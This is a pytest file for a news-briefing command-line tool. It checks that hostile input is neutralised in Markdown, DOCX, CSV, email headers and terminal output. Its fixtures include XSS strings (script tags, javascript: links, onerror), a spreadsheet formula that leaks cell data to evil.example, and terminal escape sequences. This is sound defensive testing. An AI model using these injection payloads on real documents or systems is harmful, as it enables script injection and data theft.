"""Text from the inputs never becomes live markup, a link, a formula or a control sequence.

Hostile records and file names go through the CLI into every format a reader opens: the
Markdown (rendered to HTML as a viewer would), the DOCX (its relationships and properties),
the claims CSV (as a spreadsheet reads it) and the email headers.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from email import message_from_bytes, policy
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from briefer.cli import app
from briefer.embed import HashingEmbedder

runner = CliRunner()
BODY = (
    "Afghan officials said 46 people were killed in the strikes on Tuesday. Pakistani "
    "security officials said the strikes killed militants of the Pakistani Taliban.\n\n"
    "Residents of Barmal district said at least eight people were buried on Wednesday.\n"
)
EVIL = "\n\n<script>alert(1)</script>\n\n[x](javascript:alert(2)) <img src=x onerror=alert(3)>\n"
EVIL_NAME = EVIL.replace("</script>", "")  # a file name cannot hold a slash


@pytest.fixture(autouse=True)
def _fast_embedder(monkeypatch):
    monkeypatch.setattr("briefer.embed.MiniLMEmbedder", lambda *a, **k: HashingEmbedder())


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A folder: a record whose url and title carry markup, a file whose name does."""
    folder = tmp_path / "in"
    folder.mkdir()
    record = {
        "text": BODY,
        "title": "Strikes" + EVIL,
        "url": "javascript:alert(1)//" + EVIL,
        "source": "Dawn" + EVIL,
    }
    (folder / "record.json").write_text(json.dumps(record))
    (folder / f"evil{EVIL_NAME}.txt").write_text(BODY.replace("46", "47").replace("eight", "nine"))
    (folder / "broken.json").write_text(  # starts like a URL, goes on as markup
        json.dumps({"text": BODY.replace("46", "49"), "url": "https://example.org/ok" + EVIL})
    )
    (folder / "fine.json").write_text(
        json.dumps({"text": BODY.replace("46", "48"), "url": "https://example.org/a?b=1&c=2"})
    )
    return folder


def brief(*args: object):
    result = runner.invoke(app, ["brief", *(str(a) for a in args), "--quiet"])
    assert result.exit_code == 0, (result.output, result.exception)
    return result


def test_markdown_from_hostile_urls_titles_and_file_names_renders_no_html_or_js(hostile, tmp_path):
    out = tmp_path / "brief.md"
    brief(hostile, "-o", out, "--date", "2024-12-26", "--title", "Daily" + EVIL)
    text = out.read_text(encoding="utf-8")
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert "<script" not in html and "<img" not in html
    hrefs = [part.split('"')[0] for part in html.split('href="')[1:]]
    assert hrefs == ["https://example.org/a?b=1&amp;c=2"]
    sources = text.split("## Sources\n\n")[1].split("\n\n")[0].splitlines()
    assert len(sources) == 4 and all(line[0].isdigit() for line in sources)  # one line each


def test_docx_links_only_to_http_urls_and_its_fields_carry_no_markup(hostile, tmp_path):
    out = tmp_path / "brief.docx"
    brief(hostile, "-o", out, "--date", "2024-12-26", "--title", "Daily\x1b[31m" + EVIL)
    with zipfile.ZipFile(out) as package:
        rels = package.read("word/_rels/document.xml.rels").decode()
        core = package.read("docProps/core.xml").decode()
    targets = [part.split('"')[0] for part in rels.split('Target="')[1:]]
    external = [t for t in targets if ":" in t]
    assert external == ["https://example.org/a?b=1&amp;c=2"]
    title = core.split("<dc:title>")[1].split("</dc:title>")[0]
    assert "\x1b" not in core and title.startswith("Daily[31m &lt;script&gt;")  # text, not XML


def test_claims_csv_cells_cannot_start_a_formula(tmp_path):
    article = tmp_path / "formulas.txt"
    article.write_text(
        '=HYPERLINK("http://evil.example/?"&A1,"click") officials said on Tuesday.\n\n'
        "+46 people died, the ministry said.\n\n"
        "-1 is what the spokesman said about the toll.\n\n"
        "@SUM(1+1) was written on a poster, residents said.\n\n"
        "\tTabs start this sentence, officials said.\n"
    )
    result = runner.invoke(app, ["claims", str(article), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) >= 6
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[1][rows[0].index("text")].startswith("'=HYPERLINK(")
    assert all(line.startswith('"') for line in result.stdout.splitlines() if line)  # quoted


def test_email_headers_carry_no_control_characters_or_markup_from_the_title(hostile, tmp_path):
    out = tmp_path / "brief.md"
    eml = tmp_path / "brief.eml"
    brief(
        hostile,
        "-o",
        out,
        "--eml",
        eml,
        "--to",
        "analyst@example.org",
        "--title",
        "Daily\x1b]8;;http://evil\x07 brief\x0b\x0c",
    )
    message = message_from_bytes(eml.read_bytes(), policy=policy.default)
    for name in ("Subject", "To", "From"):
        value = str(message[name])
        assert not any(ord(ch) < 32 or 0x7F <= ord(ch) < 0xA0 for ch in value), (name, value)
    assert message["Subject"].startswith("Briefing: Daily")


def test_no_terminal_escape_from_an_input_reaches_stdout(tmp_path):
    article = tmp_path / "esc.txt"
    article.write_text(BODY.replace("Tuesday", "Tuesday\x1b[2J\x1b]0;pwned\x07\x9b31m"))
    result = runner.invoke(app, ["brief", str(article), "--quiet", "--date", "2024-12-26"])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\x9b" not in result.stdout
    result = runner.invoke(app, ["claims", str(article)])
    assert result.exit_code == 0 and "\x1b" not in result.stdout
